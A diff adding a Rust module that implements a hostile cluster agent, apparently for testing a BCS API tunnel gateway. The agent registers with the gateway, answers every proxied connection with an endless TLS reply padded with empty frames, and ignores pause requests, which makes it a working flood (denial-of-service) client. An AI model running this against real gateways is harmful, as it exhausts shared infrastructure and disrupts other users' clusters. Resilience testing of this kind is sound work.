@@ -1,0 +1,206 @@
+//! An agent that attacks its gateway: it answers each request with an endless reply, and ignores requests to pause.
+
+use std::{
+    collections::HashMap,
+    io,
+    sync::{
+        Arc,
+        atomic::{AtomicU64, Ordering},
+    },
+};
+
+use base64::{Engine as _, prelude::BASE64_STANDARD};
+use bytes::Bytes;
+use futures_util::{SinkExt as _, StreamExt as _};
+use rustls_pki_types::PrivateKeyDer;
+use serde_json::json;
+use tokio::{
+    io::{AsyncReadExt as _, AsyncWriteExt as _, DuplexStream, WriteHalf},
+    net::TcpStream,
+    sync::mpsc,
+};
+use tokio_rustls::TlsAcceptor;
+use tokio_tungstenite::{
+    client_async,
+    tungstenite::{Message, client::IntoClientRequest as _},
+};
+
+use crate::Error;
+
+/// An agent of a cluster that floods its gateway.
+#[derive(Clone, Debug)]
+pub struct TunnelFlood {
+    /// The host and port of the gateway.
+    pub gateway: String,
+    /// The ID of the cluster.
+    pub cluster: String,
+    /// The register token of the cluster.
+    pub register_token: String,
+    /// The number of frames without data after each frame with data.
+    pub empty_frames: usize,
+    /// Counts the bytes of data that were sent.
+    pub sent: Arc<AtomicU64>,
+}
+
+/// Kinds of frames.
+const DATA: i64 = 1;
+const CONNECT: i64 = 2;
+const ERROR: i64 = 3;
+
+impl TunnelFlood {
+    /// Opens a tunnel, and answers every connection in it with a reply that does not end, until the gateway ends the
+    /// tunnel.
+    ///
+    /// # Errors
+    ///
+    /// When the tunnel cannot be opened.
+    pub async fn run(&self) -> Result<(), Error> {
+        let (acceptor, ca) = server()?;
+        let params = json!({
+            "address": "https://10.0.0.1:6443",
+            "userToken": "token",
+            "caCert": BASE64_STANDARD.encode(ca),
+        });
+        let invalid = |error: &dyn std::fmt::Display| Error::Invalid(format!("a tunnel: {error}"));
+        let url = format!("ws://{}/bcsapi/v1/websocket/connect", self.gateway);
+        let mut request = url.into_client_request().map_err(|error| invalid(&error))?;
+        for (name, value) in [
+            ("bcs-api-tunnel-module", "kubeagent"),
+            ("bcs-api-tunnel-clusterid", &self.cluster),
+            ("bcs-api-tunnel-token", &self.register_token),
+            (
+                "bcs-api-tunnel-params",
+                &BASE64_STANDARD.encode(params.to_string()),
+            ),
+        ] {
+            let value = value.parse().map_err(|error| invalid(&error))?;
+            request.headers_mut().insert(name, value);
+        }
+        let stream = TcpStream::connect(&self.gateway).await;
+        let stream = stream.map_err(Error::io("connecting to the gateway"))?;
+        let (socket, _) = client_async(request, stream)
+            .await
+            .map_err(|error| invalid(&error))?;
+        let (mut sink, mut stream) = socket.split();
+        let (frames, mut queued) = mpsc::channel(16);
+        let mut connections: HashMap<i64, WriteHalf<DuplexStream>> = HashMap::new();
+        loop {
+            let message = tokio::select! {
+                Some(frame) = queued.recv() => match sink.send(Message::Binary(frame)).await {
+                    Ok(()) => continue,
+                    Err(_) => return Ok(()),
+                },
+                message = stream.next() => message,
+            };
+            let mut bytes = match message {
+                Some(Ok(Message::Binary(bytes))) => bytes,
+                Some(Ok(_)) => continue,
+                Some(Err(_)) | None => return Ok(()),
+            };
+            let [_, connection, kind] = [(); 3].map(|()| take(&mut bytes));
+            match kind {
+                CONNECT => {
+                    let write = self.serve(connection, acceptor.clone(), frames.clone());
+                    connections.insert(connection, write);
+                }
+                DATA => {
+                    let _deadline = take(&mut bytes);
+                    if let Some(write) = connections.get_mut(&connection) {
+                        // An error: the reply has ended.
+                        let _ = write.write_all(&bytes).await;
+                    }
+                }
+                ERROR => drop(connections.remove(&connection)),
+                _ => {}
+            }
+        }
+    }
+
+    /// Serves a connection of the gateway. Returns where its data is written to.
+    fn serve(
+        &self,
+        connection: i64,
+        acceptor: TlsAcceptor,
+        frames: mpsc::Sender<Bytes>,
+    ) -> WriteHalf<DuplexStream> {
+        let (near, far) = tokio::io::duplex(64 << 10);
+        let (mut read, write) = tokio::io::split(near);
+        tokio::spawn(endless_reply(acceptor, far));
+        let flood = self.clone();
+        tokio::spawn(async move {
+            let mut buffer = vec![0; 32 << 10];
+            while let Ok(length @ 1..) = read.read(&mut buffer).await {
+                let data = buffer.get(..length).unwrap_or_default();
+                let empty = std::iter::repeat_n(&[][..], flood.empty_frames);
+                for data in std::iter::once(data).chain(empty) {
+                    let mut frame: Vec<u8> = [1, connection, DATA, 0].into_iter().flat_map(varint).collect();
+                    frame.extend_from_slice(data);
+                    if frames.send(frame.into()).await.is_err() {
+                        return;
+                    }
+                }
+                flood.sent.fetch_add(length as u64, Ordering::Relaxed);
+            }
+        });
+        write
+    }
+}
+
+async fn endless_reply(acceptor: TlsAcceptor, stream: DuplexStream) -> io::Result<()> {
+    let mut stream = acceptor.accept(stream).await?;
+    let mut request = Vec::new();
+    while !request.ends_with(b"\r\n\r\n") {
+        if stream.read_buf(&mut request).await? == 0 {
+            return Ok(());
+        }
+    }
+    stream.write_all(b"HTTP/1.1 200 OK\r\n\r\n").await?;
+    let data = vec![b'x'; 16 << 10];
+    loop {
+        stream.write_all(&data).await?;
+    }
+}
+
+/// TLS of an API server, and its certificate.
+fn server() -> Result<(TlsAcceptor, String), Error> {
+    let invalid = |error: &dyn std::fmt::Display| Error::Invalid(format!("a certificate: {error}"));
+    let certified = rcgen::generate_simple_self_signed(["kubernetes".to_owned()]);
+    let certified = certified.map_err(|error| invalid(&error))?;
+    let key =
+        PrivateKeyDer::try_from(certified.signing_key.serialize_der()).map_err(|error| invalid(&error))?;
+    let provider = Arc::new(rustls::crypto::ring::default_provider());
+    let config = rustls::ServerConfig::builder_with_provider(provider)
+        .with_safe_default_protocol_versions()
+        .map_err(|error| invalid(&error))?
+        .with_no_client_auth()
+        .with_single_cert(vec![certified.cert.der().clone()], key)
+        .map_err(|error| invalid(&error))?;
+    Ok((TlsAcceptor::from(Arc::new(config)), certified.cert.pem()))
+}
+
+/// A number as frames have it; these are never negative.
+fn varint(value: i64) -> Vec<u8> {
+    let mut rest = value.cast_unsigned() << 1;
+    let mut bytes = Vec::new();
+    while rest >= 0x80 {
+        bytes.push(rest.to_le_bytes()[0] | 0x80);
+        rest >>= 7;
+    }
+    bytes.push(rest.to_le_bytes()[0]);
+    bytes
+}
+
+fn take(bytes: &mut Bytes) -> i64 {
+    let mut value = 0_u64;
+    for shift in (0..64).step_by(7) {
+        if bytes.is_empty() {
+            break;
+        }
+        let byte = bytes.split_to(1)[0];
+        value |= u64::from(byte & 0x7f) << shift;
+        if byte < 0x80 {
+            break;
+        }
+    }
+    (value >> 1).cast_signed()
+}
